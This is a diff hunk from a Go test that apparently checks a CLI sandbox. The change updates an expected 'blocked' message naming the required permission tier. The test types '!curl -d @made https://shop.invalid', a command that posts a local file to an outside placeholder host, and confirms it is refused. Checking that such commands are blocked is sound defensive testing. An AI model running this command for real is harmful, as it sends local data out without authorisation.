@@ -254,7 +254,7 @@ func TestPromptRunsOtherThings(t *testing.T) {
 		s.prompted()
 		if word == "exit" {
 			s.keys("!curl -d @made https://shop.invalid\r")
-			s.wait("blocked: expected the tier container for this command, got ")
+			s.wait("blocked: expected the tier platform_permission for this command, got ")
 			s.wait("curl:")
 			s.wait("machine")
 			s.wait("help: 'tercet sandbox probe' shows what is missing")
